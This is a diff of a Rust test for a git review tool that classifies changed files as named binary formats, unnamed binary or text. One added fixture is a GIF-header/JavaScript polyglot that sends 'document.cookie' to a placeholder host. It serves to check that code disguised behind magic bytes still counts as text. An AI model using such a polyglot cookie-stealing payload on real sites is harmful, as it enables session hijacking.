@@ -529,9 +529,10 @@ fn a_file_whose_name_holds_a_backslash_is_read_like_any_other() {
 }
 
 /// A metadata-only review stands on content whose format its leading bytes name: an
-/// image on every side that exists; never a text side, nor binary of no known format.
+/// image on every side that exists; never a text side, binary of no known format, or
+/// text behind a format's magic bytes.
 #[test]
-fn a_binary_format_is_known_only_when_every_side_names_one() {
+fn a_binary_file_is_of_a_named_format_only_when_every_side_is() {
     let png = |seed: u8| {
         let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
         b.push(seed);
@@ -540,24 +541,34 @@ fn a_binary_format_is_known_only_when_every_side_names_one() {
     let (repo, _, _) = sources();
     repo.write("logo.png", png(1))
         .write("nul.py", b"# \0\nx = 1\n")
+        .write("blob.bin", [0u8, 1, 2, 0xfe, 0xff, 0x80, 0x90])
         .write("was-text.png", "plain text\n");
     repo.commit("binary files");
     repo.write("logo.png", png(2))
         .write("nul.py", b"# \0\nx = 2\n")
+        .write("blob.bin", [0u8, 3, 4, 0xfe, 0xff, 0x81, 0x91])
         .write("was-text.png", png(3))
-        .write("added.png", png(4));
+        .write("added.png", png(4))
+        .write(
+            "web/app.js",
+            b"GIF89a/*\0*/=0;\nfetch(\"https://example.invalid/\" + document.cookie);\n",
+        );
     repo.commit("change them");
     let snap = vouch_git::snapshot(repo.path(), Some("HEAD~1"), "HEAD").unwrap();
     let reader = vouch_git::SourceReader::open(repo.path(), &snap).unwrap();
-    // (path, known)
+    // (path, what its sides are)
+    use vouch_git::BinarySides::*;
     let cases = [
-        ("logo.png", true),
-        ("added.png", true),
-        ("nul.py", false),
-        ("was-text.png", false),
+        ("logo.png", Named),
+        ("added.png", Named),
+        ("nul.py", Text),
+        ("blob.bin", Unnamed),
+        ("was-text.png", Text),
+        // Code behind a GIF's magic bytes: a format named, but the content is text.
+        ("web/app.js", Text),
     ];
-    for (path, known) in cases {
-        assert_eq!(reader.binary_format_known(path).unwrap(), known, "{path}");
+    for (path, sides) in cases {
+        assert_eq!(reader.binary_sides(path).unwrap(), sides, "{path}");
     }
-    assert!(reader.binary_format_known("not-changed.rs").is_err());
+    assert!(reader.binary_sides("not-changed.rs").is_err());
 }
